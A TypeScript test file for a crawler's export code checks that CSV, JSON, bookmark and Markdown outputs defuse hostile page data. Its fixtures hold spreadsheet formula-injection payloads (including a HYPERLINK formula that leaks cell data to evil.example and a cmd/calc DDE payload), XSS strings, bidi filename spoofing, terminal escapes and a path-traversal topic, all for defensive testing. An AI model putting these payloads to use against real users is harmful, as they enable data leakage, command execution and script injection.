import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import {
  exportCrawl,
  exportCrawlStream,
  exportFilename,
  slugify,
  toBookmarks,
  toCsv,
  toJson,
  toMarkdown,
  type CrawlExport,
} from '../../lib/app/export';
import { parseCrawlExport } from '../../lib/app/library';
import type { CrawlRecord } from '../../lib/app/store';
import type { PageResult, SkipRecord } from '../../lib/engine/types';

// Midday UTC, so the local calendar date is the same in every time zone from UTC-11 to UTC+11.
const CREATED = Date.UTC(2024, 4, 17, 12, 0, 0);

const record: CrawlRecord = {
  version: 2,
  id: 'crawl-1',
  name: '<img src=x onerror=alert(1)> "Solar" & \'panels\'',
  topic: { keywords: 'Énergie solaire: <b>panneaux</b> & [DIY]', language: 'fr' },
  seeds: ['https://example.com/', 'https://example.org/seed'],
  source: { kind: 'serp', engine: 'duckduckgo', query: 'énergie solaire' },
  settings: {
    strategy: 'best-n-first',
    params: { n: 16 },
    maxPages: 500,
    maxBuffer: 256,
    politenessDelayMs: 1000,
    stayOnSeedSites: false,
    seed: 42,
  },
  status: 'done',
  createdAt: CREATED,
  updatedAt: CREATED + 60_000,
  stats: { pagesEvaluated: 9, maxPages: 500, errors: 2, frontierSize: 0, fetchesInFlight: 0, elapsedMs: 5000, meanScore: 0.4321 },
};

let n = 0;
function page(title: string, score: number, extra: Partial<PageResult> = {}): PageResult {
  n++;
  return {
    url: `https://example.com/p/${n}`,
    title,
    snippet: `Snippet ${n}: ${title}`,
    score,
    depth: n % 3,
    from: 'https://example.com/',
    fetchedAt: CREATED + n * 1000,
    isSeed: false,
    ...extra,
  };
}

/** Hostile titles/snippets/URLs, deliberately not in score order. */
const pages: PageResult[] = [
  page('<script>alert("x")</script>', 0.5),
  page('He said "hi", then left', 0.9, { isSeed: true, depth: 0, from: undefined }),
  page('Line one\nLine two\r\nLine three', 0.7),
  page('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', 0.66),
  page("+cmd|' /C calc'!A0", 0.65, { snippet: '-2+3+cmd|calc' }),
  page("@SUM(1+1)*cmd|' /C calc'!A0", 0.64, { lastModified: '=1+2' }),
  page('-1+1', 0.63, { snippet: '@evil' }),
  page('\tTabbed =1+1', 0.62, { snippet: '\r=1+1 after CR' }),
  page('Ünïcödé – 日本語 – Ελληνικά ✓', 0.61, { snippet: 'naïve café «quotes» „more“' }),
  page('Emoji 🌞🚀👩‍👩‍👧 party', 0.6),
  page('', 0.55, { snippet: '' }),
  page("It's <b>bold</b> & [a link](javascript:alert(1)) ![img](x) # | `code` *em* _u_ \\ ~~s~~ &amp;", 0.54, {
    snippet: '1. not a list; > not a quote; <!-- comment --> &copy;',
  }),
  page('Paths with spaces and (parens)', 0.53, { url: 'https://example.com/a path/(x)?q=a b&r=(1)#frag ment' }),
  page('Quote in URL', 0.52, { url: 'https://example.com/x"onmouseover="alert(1)\'y' }),
  page('Not http', 0.99, { url: 'javascript:alert(1)' }),
  page('Hidden noindex page', 0.98, { noindex: true }),
  page('Lowest', 0.01, { snippet: '=== looks like a setext underline' }),
];

const skips: SkipRecord[] = [
  { url: 'https://example.com/404', reason: 'http-error', detail: 'HTTP 404', at: CREATED + 1 },
  { url: 'https://example.com/robots', reason: 'robots', detail: 'disallowed by robots.txt', at: CREATED + 2 },
];

const byScore = (list: PageResult[]): PageResult[] => [...list].sort((a, b) => b.score - a.score);
const listed = byScore(pages.filter((p) => !p.noindex));
const httpListed = listed.filter((p) => /^https?:/.test(p.url));
const collapse = (s: string): string =>
  s
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this removes
    .replace(/[\u0000-\u001f\u007f-\u009f]/g, ' ')
    .replace(/\s+/g, ' ')
    .trim();

/** A strict RFC 4180 parser: CRLF record ends only, quoted fields with doubled quotes, nothing after a closing quote. */
function parseCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const n = text.length;
  while (i < n) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= n) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else cell += text[i++];
      }
    } else {
      while (i < n && text[i] !== separator && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote in unquoted field at ${i}`);
        cell += text[i++];
      }
    }
    row.push(cell);
    if (text[i] === separator) {
      i++;
    } else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < n) {
      throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i} (bare CR or LF, or junk after a quoted field)`);
    }
  }
  if (row.length) throw new Error('last record not terminated by CRLF');
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * The cells a lenient spreadsheet import sees when it splits a line on `separator`: quotes only group (a separator
 * inside quotes does not split), and are then dropped.
 */
function spreadsheetCells(line: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (const c of line) {
    if (c === '"') quoted = !quoted;
    else if (c === separator && !quoted) {
      cells.push(cell);
      cell = '';
    } else cell += c;
  }
  cells.push(cell);
  return cells;
}

describe('CSV export', () => {
  const csv = toCsv(pages);

  it('starts with a BOM and a header, and ends every record with CRLF', () => {
    expect(csv.startsWith('\uFEFFurl,title,score,depth,fresh,from,last_modified,fetched_at,snippet,judgement\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('round-trips hostile data through an RFC 4180 parser, best first, without noindex pages', () => {
    const [header, ...rows] = parseCsv(csv.slice(1));
    expect(header).toEqual([
      'url',
      'title',
      'score',
      'depth',
      'fresh',
      'from',
      'last_modified',
      'fetched_at',
      'snippet',
      'judgement',
    ]);
    expect(rows).toHaveLength(listed.length);
    // Undo the anti-formula apostrophe and compare with the input exactly.
    const undo = (s: string): string => (s.startsWith("'") && FORMULA_START.test(s.slice(1)) ? s.slice(1) : s);
    rows.forEach((r, i) => {
      const p = listed[i];
      expect(r).toHaveLength(10);
      expect(undo(r[0])).toBe(p.url);
      expect(undo(r[1])).toBe(p.title);
      expect(Number(r[2])).toBe(p.score);
      expect(Number(r[3])).toBe(p.depth);
      expect(r[4]).toBe(String(!p.isSeed));
      expect(undo(r[5])).toBe(p.from ?? '');
      expect(undo(r[6])).toBe(p.lastModified ?? '');
      expect(Date.parse(r[7])).toBe(p.fetchedAt);
      expect(undo(r[8])).toBe(p.snippet);
      expect(r[9]).toBe('');
    });
    expect(rows.map((r) => r[1])).not.toContain('Hidden noindex page');
  });

  it('defuses formulas in every text cell', () => {
    const rows = parseCsv(csv.slice(1)).slice(1);
    for (const r of rows) {
      for (const c of [0, 1, 5, 6, 8]) expect(FORMULA_START.test(r[c]), `cell ${JSON.stringify(r[c])}`).toBe(false);
    }
    const titles = rows.map((r) => r[1]);
    expect(titles).toContain('\'=HYPERLINK("http://evil.example/?leak="&A1,"click me")');
    expect(titles).toContain("'+cmd|' /C calc'!A0");
    expect(titles).toContain("'-1+1");
    expect(titles).toContain("'\tTabbed =1+1");
    expect(rows.map((r) => r[6])).toContain("'=1+2");
    expect(rows.map((r) => r[8])).toContain("'\r=1+1 after CR");
  });

  it('writes scores as plain numbers (a negative one is a number, not a formula)', () => {
    const out = parseCsv(toCsv([page('neg', -0.25), page('tiny', 1e-7)]).slice(1));
    expect(out[1][2]).toBe('1e-7');
    expect(out[2][2]).toBe('-0.25');
  });

  it('quotes every text cell (OWASP), numbers and booleans stay bare', () => {
    const line = toCsv([page('plain, with comma', 0.5, { snippet: 'plain' })]).split('\r\n')[1];
    expect(line).toContain(',"plain, with comma",0.5,');
    expect(line.endsWith(',"plain",""')).toBe(true);
    expect(line).toMatch(/,0\.5,\d,true,/);
  });

  it('defuses formulas behind invisible characters, full-width signs and a semicolon separator (OWASP, all of it)', () => {
    const hostile = [
      page('\u200b=1+1 after a zero-width space', 0.9),
      page('\ufeff\u2060=cmd after BOM and word joiner', 0.89),
      page('  =1+1 after spaces', 0.88),
      page('\uff1dHYPERLINK("http://evil.example") full-width', 0.87),
      page('\ufe66SUM(1) small form', 0.86),
      page('\uff0b1 \uff0d1 \uff201', 0.85),
      page('title;=HYPERLINK("http://evil.example/?x="&A1);@SUM(1)', 0.84, { snippet: 'a,=1+1;-2,+3' }),
      page('\u0000=NUL first', 0.83),
    ];
    const text = toCsv(hostile).slice(1);
    // Whichever separator the spreadsheet splits on, no cell starts with a formula character once leading spaces and
    // invisible characters are skipped.
    const trigger = /^[\s\u200b-\u200f\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]/;
    for (const sep of [',', ';', '\t']) {
      for (const line of text.split('\r\n').slice(1)) {
        for (const cell of spreadsheetCells(line, sep)) {
          expect(trigger.test(cell), `${JSON.stringify(sep)} cell ${JSON.stringify(cell)}`).toBe(false);
        }
      }
    }
    const titles = parseCsv(text)
      .slice(1)
      .map((r) => r[1]);
    expect(titles[0]).toBe("'\u200b=1+1 after a zero-width space");
    expect(titles[2]).toBe("'  =1+1 after spaces");
    expect(titles[3].startsWith("'\uff1d")).toBe(true);
    expect(titles[4].startsWith("'\ufe66")).toBe(true);
    expect(titles[7]).toBe("'=NUL first"); // the NUL itself removed, the formula defused
  });
});

describe('text safety in exports', () => {
  const spoof = page('invoice x\u202Egnp.exe \u2066isolated\u2069 \u001b]0;title\u0007end', 0.5, {
    snippet: 'snippet \u202Dforced\u202C \u001b[2Jclear',
  });
  const all = [spoof];

  it('removes bidi overrides, isolates and terminal escapes from CSV, bookmarks and Markdown', () => {
    for (const text of [toCsv(all), toBookmarks(record, all), toMarkdown(record, all)]) {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what must not be there
      expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u001b\u0007]/);
      expect(text).toContain('invoice xgnp.exe isolated end');
    }
  });

  it('writes them as escapes in JSON: nothing displays reversed, and the data parses back unchanged', () => {
    const json = toJson(record, all, []);
    expect(json).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(json).toContain('x\\u202egnp.exe');
    expect((JSON.parse(json) as CrawlExport).pages[0].title).toBe(spoof.title);
  });
});

describe('streamed export', () => {
  it('writes the same file window by window as whole, for every format', async () => {
    // Distinct scores: the store's order (best first) is then the one bestFirst gives.
    const many = Array.from({ length: 237 }, (_, i) =>
      page(i % 17 === 0 ? `=formula ${i}` : `Page ${i} \u202Espoof`, 1 - i / 1000, { noindex: i % 31 === 0 }),
    );
    const manySkips = Array.from(
      { length: 111 },
      (_, i): SkipRecord => ({
        url: `https://example.com/s${i}`,
        reason: 'url-refused',
        detail: 'private address',
        at: CREATED + i,
      }),
    );
    const reads: string[] = [];
    const reader = {
      pages: async (offset: number, limit: number) => {
        reads.push(`p${offset}+${limit}`);
        return byScore(many).slice(offset, offset + limit);
      },
      skips: async (offset: number, limit: number) => {
        reads.push(`s${offset}+${limit}`);
        return manySkips.slice(offset, offset + limit);
      },
    };
    for (const format of ['json', 'csv', 'bookmarks', 'markdown'] as const) {
      reads.length = 0;
      const whole = exportCrawl(format, record, many, manySkips, CREATED);
      const streamed = exportCrawlStream(format, record, reader, { window: 50, now: CREATED });
      let text = '';
      for await (const piece of streamed.pieces) text += piece;
      expect(text, format).toBe(whole.content);
      expect(streamed.filename).toBe(whole.filename);
      expect(reads.filter((r) => r.startsWith('p'))).toEqual(['p0+50', 'p50+50', 'p100+50', 'p150+50', 'p200+50']);
      expect(reads.some((r) => r.startsWith('s'))).toBe(format === 'json');
    }
  });

  it('makes JSON that is exactly JSON.stringify of the whole document', () => {
    const doc = {
      format: 'forager-crawl',
      version: 1,
      exportedAt: new Date(CREATED).toISOString(),
      crawl: record,
      pages: byScore(pages),
      skips,
    };
    expect(toJson(record, pages, skips, CREATED)).toBe(`${JSON.stringify(doc, null, 2)}\n`);
    const empty = { ...doc, pages: [], skips: [] };
    expect(toJson(record, [], [], CREATED)).toBe(`${JSON.stringify(empty, null, 2)}\n`);
  });
});

describe('JSON export', () => {
  it('holds everything and parses back to the input (noindex pages kept, best first)', () => {
    const doc = JSON.parse(toJson(record, pages, skips, CREATED + 5)) as CrawlExport;
    expect(doc.format).toBe('forager-crawl');
    expect(doc.version).toBe(1);
    expect(doc.exportedAt).toBe(new Date(CREATED + 5).toISOString());
    expect(doc.crawl).toEqual(record);
    expect(doc.pages).toEqual(byScore(pages));
    expect(doc.pages.some((p) => p.noindex)).toBe(true);
    expect(doc.skips).toEqual(skips);
  });

  it('is pretty-printed', () => {
    expect(toJson(record, [], [])).toMatch(/^\{\n {2}"format": "forager-crawl",\n/);
  });
});

/** Attribute by name, any case (linkedom keeps the case written; the format is written in upper case). */
function attr(e: Element, name: string): string | null {
  return [...e.attributes].find((a) => a.name.toLowerCase() === name)?.value ?? null;
}

describe('bookmarks export', () => {
  const html = toBookmarks(record, pages);
  const { document } = parseHTML(html);

  it('has the Netscape header browsers look for', () => {
    expect(html.startsWith('<!DOCTYPE NETSCAPE-Bookmark-file-1>\n')).toBe(true);
    expect(html).toContain('<META HTTP-EQUIV="Content-Type" CONTENT="text/html; charset=UTF-8">');
    expect(html).toContain('<TITLE>Bookmarks</TITLE>');
    expect(html).toContain('<H1>Bookmarks</H1>');
  });

  it('parses to exactly the expected links and titles, best first, http(s) only, noindex left out', () => {
    const anchors = [...document.querySelectorAll('a')];
    expect(anchors).toHaveLength(httpListed.length);
    anchors.forEach((a, i) => {
      const p = httpListed[i];
      const href = new URL(p.url).href;
      expect(attr(a, 'href')).toBe(href);
      expect(a.textContent).toBe(collapse(p.title) || href);
      expect(attr(a, 'add_date')).toBe(String(Math.floor(p.fetchedAt / 1000)));
      expect(a.attributes.length).toBe(2);
    });
    expect(html).not.toMatch(/HREF="\s*javascript:/i);
    expect(anchors.map((a) => a.textContent)).not.toContain('Hidden noindex page');
  });

  it('names the folder after the crawl and keeps snippets as text', () => {
    const folders = [...document.querySelectorAll('h3')];
    expect(folders).toHaveLength(1);
    expect(folders[0].textContent).toBe(record.name);
    expect(attr(folders[0], 'add_date')).toBe(String(Math.floor(CREATED / 1000)));
    const dds = [...document.querySelectorAll('dd')].map((d) => d.textContent!.trim());
    expect(dds).toEqual(httpListed.filter((p) => collapse(p.snippet)).map((p) => collapse(p.snippet)));
  });

  it('injects no element', () => {
    const allowed = new Set(['HTML', 'HEAD', 'BODY', 'META', 'TITLE', 'H1', 'DL', 'P', 'DT', 'DD', 'H3', 'A']);
    const tags = [...document.querySelectorAll('*')].map((e) => e.tagName.toUpperCase());
    expect(tags.filter((t) => !allowed.has(t))).toEqual([]);
    expect(document.querySelectorAll('script, img, b')).toHaveLength(0);
    // Every element carries only the attributes the format defines.
    const attrs = new Set([...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name.toLowerCase())));
    expect([...attrs].sort()).toEqual(['add_date', 'content', 'href', 'http-equiv', 'last_modified']);
  });
});

/** Reads `[text](dest)` at `s[i] === '['`, honouring backslash escapes; returns the raw parts and the end index. */
function readLink(s: string, i: number): { text: string; dest: string; end: number } {
  expect(s[i]).toBe('[');
  let j = i + 1;
  while (s[j] !== ']') {
    if (j >= s.length) throw new Error('unclosed link text');
    if (s[j] === '[') throw new Error('unescaped [ inside link text');
    j += s[j] === '\\' ? 2 : 1;
  }
  const text = s.slice(i + 1, j);
  expect(s[j + 1]).toBe('(');
  let k = j + 2;
  while (s[k] !== ')') {
    if (k >= s.length) throw new Error('unclosed destination');
    if (/[\s(<>\\]/.test(s[k])) throw new Error(`unsafe ${JSON.stringify(s[k])} in link destination`);
    k++;
  }
  return { text, dest: s.slice(j + 2, k), end: k + 1 };
}

const unescapeMd = (s: string): string => s.replace(/\\([!-/:-@[-`{-~])/g, '$1');

describe('Markdown export', () => {
  const md = toMarkdown(record, pages);
  const lines = md.split('\n');

  it('has the topic as heading and a settings/stats line', () => {
    expect(lines[0]).toBe('# Énergie solaire: \\<b\\>panneaux\\</b\\> & \\[DIY\\]');
    expect(lines[1]).toBe('');
    expect(lines[2]).toContain('best-n-first');
    expect(lines[2]).toContain('Pages: 9/500');
    expect(lines[2]).toContain('Mean score: 0.43');
    expect(lines[2]).toContain('Errors: 2');
    expect(lines[2]).toContain('Started: 2024-05-17');
  });

  it('lists http(s) pages best first as numbered links with score and freshness, snippets indented', () => {
    const items = lines.filter((l) => /^\d+\. /.test(l));
    expect(items).toHaveLength(httpListed.length);
    items.forEach((line, i) => {
      const p = httpListed[i];
      const marker = `${i + 1}. `;
      expect(line.startsWith(marker)).toBe(true);
      const { text, dest, end } = readLink(line, marker.length);
      const href = new URL(p.url).href;
      expect(unescapeMd(text)).toBe(collapse(p.title) || href);
      expect(decodeURI(dest)).toBe(decodeURI(href));
      expect(new URL(dest).origin).toBe(new URL(href).origin);
      expect(line.slice(end)).toBe(` — score ${p.score.toFixed(2)}, ${p.isSeed ? 'seed' : 'fresh'}`);
      const next = lines[lines.indexOf(line) + 1];
      if (collapse(p.snippet)) {
        expect(next.startsWith(' '.repeat(marker.length))).toBe(true);
        expect(unescapeMd(next.slice(marker.length))).toBe(collapse(p.snippet));
      }
    });
    expect(md).not.toMatch(/\]\(\s*javascript:/);
    expect(md).not.toContain('Hidden noindex page');
  });

  it('lets no raw HTML, link, list marker or setext underline through', () => {
    // Every < [ ] ` * _ is escaped outside the link syntax we wrote ourselves.
    const body = lines.slice(3).map((l) => l.replace(/^\d+\. \[/, '').replace(/\]\([^)\s]+\) — score.*$/, ''));
    for (const l of body) expect(l, l).not.toMatch(/(^|[^\\])(\\\\)*[<[\]`*_]/);
    const snippetLines = lines.filter((l) => /^ {3,}\S/.test(l)).map((l) => l.trim());
    for (const l of snippetLines) expect(l, l).not.toMatch(/^([-+=>#]|\d+[.)])/);
    expect(md).toContain('\\&copy;');
  });

  it('percent-encodes spaces and parentheses in URLs', () => {
    expect(md).toContain('(https://example.com/a%20path/%28x%29?q=a%20b&r=%281%29#frag%20ment)');
  });

  it('says so when nothing is listed', () => {
    expect(toMarkdown(record, [])).toContain('No pages.');
  });
});

describe('exportCrawl and file names', () => {
  it('returns file name, MIME type and content for every format', () => {
    const expected = {
      json: ['json', 'application/json'],
      csv: ['csv', 'text/csv;charset=utf-8'],
      bookmarks: ['html', 'text/html;charset=utf-8'],
      markdown: ['md', 'text/markdown;charset=utf-8'],
    } as const;
    for (const [format, [ext, mime]] of Object.entries(expected)) {
      const file = exportCrawl(format as keyof typeof expected, record, pages, skips);
      expect(file.filename).toBe(`forager-energie-solaire-b-panneaux-b-diy-2024-05-17.${ext}`);
      expect(file.mimeType).toBe(mime);
      expect(file.content.length).toBeGreaterThan(100);
    }
    expect(exportCrawl('csv', record, pages).content).toBe(toCsv(pages));
    expect(exportCrawl('markdown', record, pages).content).toBe(toMarkdown(record, pages));
    expect((JSON.parse(exportCrawl('json', record, pages, skips).content) as CrawlExport).skips).toEqual(skips);
  });

  it('refuses an unknown format', () => {
    expect(() => exportCrawl('pdf' as never, record, pages)).toThrow(/Unknown export format/);
    expect(() => exportCrawl('__proto__' as never, record, pages)).toThrow(/Unknown export format/);
  });

  it('slugs topics to lowercase ASCII, at most 60 characters, crawl when empty', () => {
    expect(slugify('Café crème: how to?!')).toBe('cafe-creme-how-to');
    expect(slugify('  --Hello__World--  ')).toBe('hello-world');
    expect(slugify('日本語 🌞')).toBe('crawl');
    expect(slugify('')).toBe('crawl');
    const long = slugify('word '.repeat(40));
    expect(long.length).toBeLessThanOrEqual(60);
    expect(long).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
    expect(exportFilename({ ...record, topic: { keywords: '../../etc/passwd' } }, 'json')).toBe(
      'forager-etc-passwd-2024-05-17.json',
    );
  });

  it('survives pages without titles, snippets or valid numbers', () => {
    const odd = [{ ...page('', NaN), snippet: undefined as unknown as string, fetchedAt: NaN }];
    for (const format of ['json', 'csv', 'bookmarks', 'markdown'] as const) {
      expect(() => exportCrawl(format, record, odd)).not.toThrow();
    }
    const row = parseCsv(toCsv(odd).slice(1))[1];
    expect(row[2]).toBe('');
    expect(row[7]).toBe('');
  });
});

describe('judgements in every export', () => {
  const up = page('Judged up', 0.3);
  const down = page('Judged down', 0.2);
  const plain = page('Not judged', 0.1);
  const judged: CrawlRecord = {
    ...record,
    judgements: [
      { url: up.url, value: 1, terms: { solar: 2 }, at: CREATED },
      { url: down.url, value: -1, terms: { roof: 1 }, at: CREATED },
    ],
    hiddenSites: ['https://hidden.example'],
  };
  const list = [up, down, plain];

  it('JSON keeps them whole, and the import takes them back', () => {
    const text = exportCrawl('json', judged, list, []).content;
    const doc = JSON.parse(text) as CrawlExport;
    expect(doc.crawl.judgements).toEqual(judged.judgements);
    expect(doc.crawl.hiddenSites).toEqual(['https://hidden.example']);
    const back = parseCrawlExport(text).record;
    expect(back.judgements).toEqual(judged.judgements);
    expect(back.hiddenSites).toEqual(['https://hidden.example']);
    // A judgement that is not up or down is refused, with the file.
    const bad = { ...doc, crawl: { ...doc.crawl, judgements: [{ ...judged.judgements![0], value: 2 }] } };
    expect(() => parseCrawlExport(JSON.stringify(bad))).toThrow();
  });

  it('CSV has a judgement column, Markdown says it, bookmarks tag it', () => {
    const rows = parseCsv(exportCrawl('csv', judged, list).content.slice(1)).slice(1);
    expect(rows.map((r) => [r[1], r[9]])).toEqual([
      ['Judged up', 'relevant'],
      ['Judged down', 'not relevant'],
      ['Not judged', ''],
    ]);
    const md = exportCrawl('markdown', judged, list).content;
    expect(md).toMatch(/Judged up\]\([^)]*\) — score 0\.30, fresh, judged relevant\n/);
    expect(md).toMatch(/Judged down\]\([^)]*\) — score 0\.20, fresh, judged not relevant\n/);
    expect(md).toMatch(/Not judged\]\([^)]*\) — score 0\.10, fresh\n/);
    const html = exportCrawl('bookmarks', judged, list).content;
    expect(html).toContain(`HREF="${up.url}" ADD_DATE="${Math.floor(up.fetchedAt / 1000)}" TAGS="forager-relevant"`);
    expect(html).toContain('TAGS="forager-not-relevant"');
    expect(html.match(/TAGS=/g)).toHaveLength(2);
  });
});
